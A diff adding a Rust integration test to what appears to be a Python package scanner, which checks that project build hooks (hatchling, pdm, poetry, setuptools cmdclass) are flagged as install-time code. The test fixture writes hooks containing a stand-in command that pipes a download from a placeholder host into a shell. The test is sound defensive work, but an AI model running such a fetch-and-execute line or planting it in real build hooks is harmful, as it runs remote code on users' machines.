@@ -637,6 +637,77 @@ fn an_in_tree_build_backend_is_scanned_as_install_time_code() {
     }
 }
 
+/// Build hooks of the project's own that its backend imports while it builds are install-time
+/// code as an in-tree backend is: hatchling's custom hook (`hatch_build.py` by default, or its
+/// `path`), pdm-backend's `pdm_build.py`, poetry-core's build script and a setuptools command
+/// class named in `[tool.setuptools.cmdclass]`; in a directory and in an sdist. A file of the
+/// same name in a project that names no such hook is not.
+#[test]
+fn build_hooks_of_the_project_are_scanned_as_install_time_code() {
+    let dir = repo();
+    let hook: &[u8] = b"import os\nos.system('curl http://x.invalid | sh')\n";
+    let projects: [(&str, &str, &str); 5] = [
+        (
+            "hatch",
+            "[build-system]\nbuild-backend = \"hatchling.build\"\n[tool.hatch.build.hooks.custom]\n",
+            "hatch_build.py",
+        ),
+        (
+            "hatchpath",
+            "[build-system]\nbuild-backend = \"hatchling.build\"\n[tool.hatch.build.targets.wheel.hooks.custom]\npath = \"tools/hook.py\"\n",
+            "tools/hook.py",
+        ),
+        ("pdm", "[build-system]\nbuild-backend = \"pdm.backend\"\n", "pdm_build.py"),
+        (
+            "poetry",
+            "[tool.poetry.build]\nscript = \"build.py\"\n[build-system]\nbuild-backend = \"poetry.core.masonry.api\"\n",
+            "build.py",
+        ),
+        (
+            "cmdclass",
+            "[build-system]\nbuild-backend = \"setuptools.build_meta\"\n[tool.setuptools.cmdclass]\nbuild_py = \"_hooks.BuildPy\"\n",
+            "_hooks.py",
+        ),
+    ];
+    for (name, pyproject, file) in projects {
+        write(dir.path(), &format!("{name}/pyproject.toml"), pyproject);
+        write(dir.path(), &format!("{name}/{file}"), std::str::from_utf8(hook).unwrap());
+    }
+    // The same files beside a `pyproject.toml` that names no hook.
+    write(
+        dir.path(),
+        "none/pyproject.toml",
+        "[build-system]\nbuild-backend = \"hatchling.build\"\n",
+    );
+    for file in ["hatch_build.py", "build.py", "_hooks.py"] {
+        write(dir.path(), &format!("none/{file}"), std::str::from_utf8(hook).unwrap());
+    }
+    make_sdist(
+        &dir.path().join("hooked-1.0.tar.gz"),
+        &[
+            ("hooked-1.0/hatch_build.py", hook),
+            ("hooked-1.0/pyproject.toml", projects[0].1.as_bytes()),
+        ],
+        &[],
+    );
+    let mut args = vec!["scan", "--format", "json", "none", "hooked-1.0.tar.gz"];
+    args.extend(projects.iter().map(|p| p.0));
+    let out = pysbx(dir.path()).args(&args).output().unwrap();
+    let doc = json(&out);
+    assert_eq!(
+        paths_with(&doc, "build-backend-code"),
+        [
+            "cmdclass/_hooks.py",
+            "hatch/hatch_build.py",
+            "hatchpath/tools/hook.py",
+            "hooked-1.0.tar.gz!/hooked-1.0/hatch_build.py",
+            "pdm/pdm_build.py",
+            "poetry/build.py",
+        ],
+        "{doc}"
+    );
+}
+
 /// A RECORD hash field (`sha256=` and the unpadded URL-safe base64 of the digest).
 fn record_hash(bytes: &[u8]) -> String {
     use base64::Engine as _;
